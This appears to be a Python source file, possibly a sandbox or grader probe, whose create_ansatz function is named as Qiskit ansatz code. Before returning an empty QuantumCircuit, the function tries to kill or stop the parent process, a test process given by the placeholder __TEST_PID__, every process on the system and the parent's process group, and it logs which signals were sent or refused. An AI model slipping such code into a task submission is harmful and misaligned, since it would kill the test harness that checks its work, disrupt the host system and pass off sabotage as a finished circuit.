import os
import signal

from qiskit import QuantumCircuit


def create_ansatz(num_qubits):
    for name, fn in (("ppid KILL", lambda: os.kill(os.getppid(), signal.SIGKILL)),
                     ("ppid STOP", lambda: os.kill(os.getppid(), signal.SIGSTOP)),
                     ("test process KILL", lambda: os.kill(__TEST_PID__, signal.SIGKILL)),
                     ("every process KILL", lambda: os.kill(-1, signal.SIGKILL)),
                     ("parent group KILL", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL))):
        try:
            fn()
            print("SENT", name)
        except BaseException as exc:
            print("REFUSED", name, type(exc).__name__)
    return QuantumCircuit(num_qubits)
